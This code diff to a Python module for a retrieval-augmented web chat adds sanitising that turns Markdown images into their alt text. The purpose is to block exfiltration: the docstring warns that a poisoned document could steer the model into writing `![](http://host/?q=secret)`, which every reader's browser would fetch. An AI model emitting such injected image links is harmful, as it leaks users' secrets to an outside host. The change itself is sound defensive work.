@@ -1,7 +1,9 @@
 """HTML for the web chat: answers with clickable ``[n]`` citations, the sources panel with the
 evidence marked, the 查看全文 view, the 检索测试 lists, the document list.
 
-Everything that came from a model or a document is HTML-escaped before our own markup is added.
+Everything that came from a model or a document is HTML-escaped before our own markup is added,
+and chat messages (rendered as Markdown) lose their images: a poisoned document could otherwise
+steer the model into ``![](http://host/?q=secret)``, which every reader's browser would fetch.
 Citation links point at ``#rag-src-<turn>-<n>``; ``rag/web/static/citations.js`` turns a click into
 "show that turn's passages, highlight passage n, scroll to it".
 """
@@ -30,6 +32,7 @@ REFUSED_SOURCES = "这些是找到的最接近的段落，但它们没有回答�
 DOCUMENT_HEADERS = ["标题", "文件", "段落数", "加入时间", "文章编号"]
 
 _CITATION = re.compile(r"[\[【]\s*(\d{1,2})\s*(\?|？)?\s*[\]】]")
+_INLINE_IMAGE = re.compile(r"!\[([^\]\n]*)\]\([^)\n]*\)?")  # also one still streaming in: ``![x](http://ho``
 
 
 @dataclass
@@ -59,7 +62,16 @@ def citation_links(text: str, turn: int) -> str:
             )
         return f'<a class="rag-cite" href="#rag-src-{turn}-{n}" title="查看资料 [{n}]">[{n}]</a>'
 
-    return _CITATION.sub(link, html.escape(text, quote=False))
+    return _CITATION.sub(link, markdown_text(text))
+
+
+def markdown_text(text: str) -> str:
+    """``text`` escaped for a Markdown message, with no image in it.
+
+    ``![alt](url)`` becomes its alt text; any other ``![`` (a reference image) loses the ``!``'s
+    meaning as the entity ``&#33;``, so what remains is at most a link, which needs a click."""
+    escaped = html.escape(_INLINE_IMAGE.sub(r"\1", text), quote=False)
+    return escaped.replace("![", "&#33;[")
 
 
 def answer_html(turn: ChatTurn, index: int) -> str:
@@ -85,7 +97,7 @@ def chat_messages(turns: Sequence[ChatTurn]) -> list[dict[str, str]]:
     """The Chatbot value: a user and an assistant message per turn."""
     messages: list[dict[str, str]] = []
     for index, turn in enumerate(turns):
-        messages.append({"role": "user", "content": html.escape(turn.question, quote=False)})
+        messages.append({"role": "user", "content": markdown_text(turn.question)})
         messages.append({"role": "assistant", "content": answer_html(turn, index)})
     return messages
 
